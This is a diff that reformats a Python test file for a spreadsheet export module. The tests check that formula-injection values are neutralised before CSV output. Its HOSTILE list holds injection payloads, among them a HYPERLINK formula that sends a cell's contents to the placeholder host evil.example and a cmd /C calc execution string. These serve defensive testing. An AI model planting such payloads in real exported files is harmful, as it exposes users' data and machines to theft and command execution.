@@ -10,8 +10,14 @@ from server.spreadsheets import INTEGER, PERCENT, Column, Table, neutralise, to_
 from tests.activity_factories import activity_item, count_coverage
 from tests.factories import COMMUNE_A, LEADER_A, MEMBER_A, build_world, make_team, make_unit
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2",
-           "-2+3", "\t=1+1", "\r=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+2",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 @pytest.mark.parametrize("text", HOSTILE)
@@ -25,8 +31,12 @@ def test_other_values_are_left_alone(value):
 
 
 def _table(names):
-    return Table("Báo cáo", [Column("Đơn vị"), Column("Số", INTEGER), Column("Tỷ lệ", PERCENT)],
-                 [[name, -1, 0.5] for name in names], [("Kỳ báo cáo", "=1+1")])
+    return Table(
+        "Báo cáo",
+        [Column("Đơn vị"), Column("Số", INTEGER), Column("Tỷ lệ", PERCENT)],
+        [[name, -1, 0.5] for name in names],
+        [("Kỳ báo cáo", "=1+1")],
+    )
 
 
 def test_csv_cells_cannot_start_a_formula():
@@ -70,8 +80,10 @@ def test_no_export_writes_spreadsheets_by_itself():
     from pathlib import Path
 
     root = Path(__file__).resolve().parents[1]
-    writers = [path.relative_to(root).as_posix() for folder in ("server", "mobile_api")
-               for path in (root / folder).rglob("*.py")
-               if any(marker in path.read_text(encoding="utf-8")
-                      for marker in ("csv.writer", "csv.DictWriter", "openpyxl"))]
+    writers = [
+        path.relative_to(root).as_posix()
+        for folder in ("server", "mobile_api")
+        for path in (root / folder).rglob("*.py")
+        if any(marker in path.read_text(encoding="utf-8") for marker in ("csv.writer", "csv.DictWriter", "openpyxl"))
+    ]
     assert writers == ["server/spreadsheets.py"]
